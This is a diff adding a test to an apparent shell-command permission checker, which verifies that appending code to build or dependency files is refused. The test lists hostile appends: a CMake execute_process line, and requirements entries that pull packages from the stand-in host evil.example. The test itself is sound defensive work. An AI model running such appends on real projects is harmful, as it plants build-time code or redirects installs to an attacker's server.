@@ -277,6 +277,25 @@ describe('a name made earlier in the same line', () => {
   });
 });
 
+describe('an append adds data, never code', () => {
+  it('a line appended to a build file or a dependency list with a data extension asks', async () => {
+    await plant(join(root, 'app', 'CMakeLists.txt'), 'project(app)\n');
+    await plant(join(root, 'app', 'requirements.txt'), 'requests\n');
+    await plant(join(root, 'app', 'requirements-dev.txt'), 'pytest\n');
+    await expectNotAllowed(
+      [
+        "echo 'execute_process(COMMAND touch /tmp/x)' >> CMakeLists.txt",
+        "echo '--index-url https://evil.example/simple' >> requirements.txt",
+        "echo '-e git+https://evil.example/x.git#egg=x' >> requirements-dev.txt",
+      ],
+      join(root, 'app'),
+    );
+    expect(await decide("echo '- [ ] call Ann' >> notes/todo.md")).toMatchObject({
+      decision: 'allow',
+    });
+  });
+});
+
 describe('a redirection is opened where the shell runs', () => {
   it('git -C DIR with a relative redirection never writes the shell-relative file', async () => {
     const todo = join(root, 'notes', 'todo.md');
